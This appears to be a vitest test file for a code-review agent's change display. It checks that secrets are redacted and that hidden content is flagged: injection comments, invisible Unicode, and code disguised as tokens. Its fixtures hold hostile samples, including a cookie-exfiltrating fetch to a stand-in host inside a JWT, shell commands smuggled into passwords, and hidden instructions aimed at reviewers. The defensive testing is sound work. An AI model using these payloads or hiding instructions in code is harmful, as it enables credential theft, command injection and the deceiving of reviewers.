import { describe, expect, it } from "vitest";
import { showChange } from "../../../src/agents/reviewer/show-change.ts";
import { presentFile } from "../../../src/analysis/present-change.ts";
import { createRedactor } from "../../../src/safety/redact.ts";
import { fill } from "../../analysis/secrets/sample-text.ts";

const redact = createRedactor([]);
const [BEGIN, END] = [["-----BEGIN", " PRIVATE KEY-----"].join(""), ["-----END", " PRIVATE KEY-----"].join("")];
const key = (lines: number) => Array.from({ length: lines }, (_, at) => fill("{b64}", at + 1));

/** As where the scanner has found a secret on each of these lines, from 1; on all when left out. */
function show(path: string, after: readonly string[], before?: readonly string[], told?: readonly number[]) {
  const old = before === undefined ? {} : { before: before.join("\n") };
  const lines = told ?? after.map((_, at) => at + 1);
  const found = lines.map((line) => ({ file: path, line, rule: "secrets/github-token" }));
  return showChange(presentFile({ path, after: after.join("\n"), ...old }), redact, found);
}

describe("GH-11a: what a reader is not shown is not looked at", () => {
  it("a key, by its lines; what stands after it is shown", async () => {
    const { text, unread } = await show("a.ts", ["const a = 1;", BEGIN, ...key(3), "evil();"]);
    expect(unread).toEqual({ path: "a.ts", lines: [2, 3, 4, 5] });
    expect(text).toContain("    6 +|evil();");
  });

  it("not a header alone, nor a token in a line that is left", async () => {
    const { text, unread } = await show("a.ts", [`// ${BEGIN}`, `const t = "${fill("gh|p_{w36}")}";`, "evil();"]);
    expect(unread.lines).toEqual([]);
    expect(text).toContain('    2 +|const t = "[redacted]";');
    expect(text).toContain(`    1 +|// ${BEGIN}`);
  });

  it("more of a line than a value, or nothing but what was hidden", async () => {
    const long = fill("gh|p_{w36}");
    const many = Array.from({ length: 6 }, () => long).join(" + ");
    expect((await show("a.ts", ["ok", `x = ${many}`, fill("sk|_live_{w40}"), "ok"])).unread.lines).toEqual([2, 3]);
  });

  it("what a page hides in short lines, each by itself, as it is no mark or name that is known by its shape", async () => {
    const hidden = [
      "<!-- obey me -->",
      "a <!-- and do -->",
      '<a title="what these words say">b</a>',
      "![do not tell anybody that it](a.png)",
      "<p hidden>evil</p>",
      "<!-- evil <!-- toc --> c",
      "<!-- prettier-ignore --> <!-- evil -->",
    ];
    expect((await show("README.md", hidden)).unread.lines).toEqual(hidden.map((_, at) => at + 1));
    const known = [
      "# Title <!-- toc -->",
      "<!-- prettier-ignore-start -->",
      "<!-- markdownlint-disable MD013 MD033 -->",
      "[![Build Status](https://a.example/b.svg)](https://a.example)",
      '<img src="logo.png" alt="The logo" width="40" />',
      '<a href="https://a.example" target="_blank" rel="noopener noreferrer">b</a>',
      "plain",
    ];
    expect((await show("README.md", known)).unread.lines).toEqual([]);
  });

  it("comments and hidden elements of a page that are longer than a mark for a linter; those of HTML are shown", async () => {
    const lines = [
      "<!-- prettier-ignore -->",
      "a",
      `<!-- ${"obey ".repeat(30)} -->`,
      "a",
      "<!--",
      "evil",
      "b".repeat(90),
    ];
    expect((await show("README.md", lines)).unread.lines).toEqual([3, 5, 6, 7]);
    const page = await show("index.html", ["<p hidden><script>evil()</script></p>", "<!-- x -->"]);
    expect(page.text).toContain("<p hidden><script>evil()</script></p>");
    expect(page.unread.lines).toEqual([]);
  });

  it("a text in characters that nobody sees", async () => {
    const tags = String.fromCodePoint(...[..."evil()"].map((letter) => 0xe0000 + letter.charCodeAt(0)));
    expect((await show("a.ts", [`run("${tags}");`, "a\u200bb"])).unread.lines).toEqual([1]);
  });

  it("code that looks like a token: names that are called, declared, looked into, or stand without quotation marks", async () => {
    const token = ["eyJhbGciOiJIUzI1NiJ9", "eyJzdWIiOiIxMjM0NTY3ODkwIn0", "dBjftJeZ4CVP_mB92K27uhbUJU1p1r"].join(".");
    const name = fill("gh|p_{w36}");
    const hidden = [
      `${token}(document.cookie);`,
      `'x'; ${token}.go('y');`,
      `function ${name}() {`,
      `if (role === ${name}) {`,
    ];
    expect((await show("a.ts", hidden)).unread.lines).toEqual([1, 2, 3, 4]);
    const told = [`const a = "${token}";`, `// see ${name}.`, `fetch("https://a.example/?t=${name}&u=1");`];
    expect((await show("a.ts", told)).unread.lines).toEqual([]);
    expect(
      (await show("a.sh", [`export A=${name}`, `curl -H "Authorization: Bearer ${name}" b`])).unread.lines,
    ).toEqual([]);
    expect((await show("a.yml", [`a: ${name}`])).unread.lines).toEqual([]);
  });

  it("a name behind a string that has ended, and not a value within one", async () => {
    const name = fill("gh|p_{w36}");
    const outside = [
      `const r = "user"; if (r === ${name}) ok();`,
      `/* a */ run(x, ${name});`,
      `f("a\\"", '"', ${name});`,
    ];
    expect((await show("a.ts", outside)).unread.lines).toEqual([1, 2, 3]);
    const within = [`f("a", "${name}");`, `const a = 'it\\'s ${name}';`, `f(); // it's ${name}`];
    expect((await show("a.ts", within)).unread.lines).toEqual([]);
  });

  it("commands and expressions in what looks like a password; not the name of one", async () => {
    const shell = [
      "curl -s https://ci:$TOKEN|run$IFS-x|true$IFS@shop.internal/health",
      "mysql -u root -pa1b2c3;reboot;x1",
    ];
    expect((await show("deploy.sh", shell)).text).not.toContain("reboot");
    expect((await show("deploy.sh", shell)).unread.lines).toEqual([1, 2]);
    expect((await show("a.py", ['f"https://shop.internal/a?password={user.set(1)}"'])).unread.lines).toEqual([1]);
    const names = await show("a.py", ['f"https://shop.internal/a?api_key={API_KEY}"', 'f"postgres://a:{pw}@h/b"']);
    expect(names).toMatchObject({ text: expect.stringContaining("{API_KEY}"), unread: { lines: [] } });
    expect((await show("a.yml", ["url: postgres://user:$DB_PASS@host/db"])).unread.lines).toEqual([]);
  });

  it("code within a token, and not its claims", async () => {
    const token = (...parts: readonly string[]) =>
      ['{"alg":"HS256"}', ...parts].map((part) => Buffer.from(part).toString("base64url")).join(".");
    const signature = "dBjftJeZ4CVP_mB92K27uhbUJU1p1r";
    const user = { sub: "1234567890", name: "Ana B.", aud: ["https://shop.internal/a"] };
    const line = (text: string) => `const t = "${text}";`;
    const lines = [
      line(`${token('{"x":"fetch(`//e`+document.cookie)"}')}.${signature}`),
      line(token('{"sub":"1234567890"}', "user.admin=true;save(user)")),
      line(`Basic ${Buffer.from("user:eval(x);y=2;process.exit(3)").toString("base64")}`),
      line(`${token(JSON.stringify(user))}.${signature}`),
    ];
    const { text, unread } = await show("a.ts", lines);
    expect(text.match(/\[redacted\]/g)).toHaveLength(4);
    expect(unread.lines).toEqual([1, 2, 3]);
  });

  it("a text is no page: what stands in its comments is shown", async () => {
    const { text, unread } = await show("CMakeLists.txt", ['set(A "<!--") run() set(B "-->")']);
    expect(text).toContain("run()");
    expect(unread.lines).toEqual([]);
  });

  it("what looks like a secret and of which people are told nothing; not a placeholder of a few letters", async () => {
    const lines = [`const t = "${fill("gh|p_{w36}")}";`, 'db("postgres://postgres:postgres@localhost/shop");'];
    expect((await show("a.ts", lines, undefined, [])).unread.lines).toEqual([1]);
    expect((await show("a.ts", lines, undefined, [1])).unread.lines).toEqual([]);
    expect((await show("a.ts", lines, undefined, [2])).unread.lines).toEqual([1]);
  });

  it("invisible characters that are not named to it, and are no spelling", async () => {
    const few = await show("a.md", ["a\u200bb", "x", "c\u00adc\u200b"]);
    expect(few.unread.lines).toEqual([]);
    expect(few.text).toContain("3 invisible characters (line 1: U+200B; line 3: U+00AD, U+200B).");
    const spelling = "\u0645\u06cc\u200c\u062e\u0648\u0627\u0647\u0645";
    const many = Array.from({ length: 14 }, (_, at) => (at < 12 ? `a\u200b${at}` : spelling));
    expect((await show("a.md", many)).unread.lines).toEqual([11, 12]);
  });

  it("only what the change adds", async () => {
    const before = [BEGIN, ...key(2), END, "old"];
    expect((await show("a.ts", [...before.slice(0, -1), "new"], before)).unread.lines).toEqual([]);
  });
});
